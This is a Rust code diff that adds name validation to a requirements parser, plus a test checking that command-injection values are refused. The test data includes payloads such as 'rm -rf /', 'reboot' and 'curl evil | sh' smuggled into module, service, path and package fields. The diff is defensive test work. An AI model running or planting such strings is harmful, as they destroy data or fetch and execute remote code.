@@ -223,7 +223,14 @@ fn requirement(r: RawRequirementFields) -> Result<Requirement, String> {
         }
         kinds.push(Check::Executable(name));
     }
+    for (family, names) in &r.packages {
+        names::check_packages(family, names)?;
+    }
     if let Some(name) = r.kernel_module {
+        names::check_module(&name)?;
+        if let Some(c) = &r.config {
+            names::check_config_option(c)?;
+        }
         kinds.push(Check::KernelModule {
             name,
             config: r.config.clone(),
@@ -232,6 +239,7 @@ fn requirement(r: RawRequirementFields) -> Result<Requirement, String> {
         return Err("`config` only goes with `kernel_module`".into());
     }
     if let Some(s) = r.service {
+        names::check_service(&s.name)?;
         kinds.push(Check::Service {
             name: s.name,
             process: s.process,
@@ -272,12 +280,7 @@ fn requirement(r: RawRequirementFields) -> Result<Requirement, String> {
         });
     }
     if let Some(m) = r.mount_propagation {
-        if !m.path.starts_with('/') {
-            return Err(format!(
-                "mount_propagation.path {:?} must be absolute",
-                m.path
-            ));
-        }
+        names::check_command_path("mount_propagation.path", &m.path)?;
         kinds.push(Check::MountPropagation { path: m.path });
     }
     if let Some(argv) = r.command {
@@ -588,6 +591,30 @@ mod gap_tests {
             "3:5",
         );
         assert!(e.contains("default id"), "{e}");
+    }
+
+    #[test]
+    fn values_shown_in_suggested_commands_are_refused_unless_plain() {
+        for (req, what) in [
+            ("kernel_module: \"iscsi_tcp; reboot\"", "kernel module"),
+            ("kernel_module: ../../etc/x", "kernel module"),
+            (
+                "{kernel_module: a, config: \"CONFIG_A $(id)\"}",
+                "config option",
+            ),
+            ("service: {name: \"x && reboot\"}", "service name"),
+            (
+                "mount_propagation: {path: \"/var/lib/x; rm -rf /\"}",
+                "mount_propagation.path",
+            ),
+            (
+                "{executable: a, packages: {debian: \"ok; curl evil | sh\"}}",
+                "package name",
+            ),
+        ] {
+            let e = refused_at(&format!("name: x\nrequirements:\n  - {req}\n"), "3:5");
+            assert!(e.contains(what), "{req}: {e}");
+        }
     }
 
     #[test]
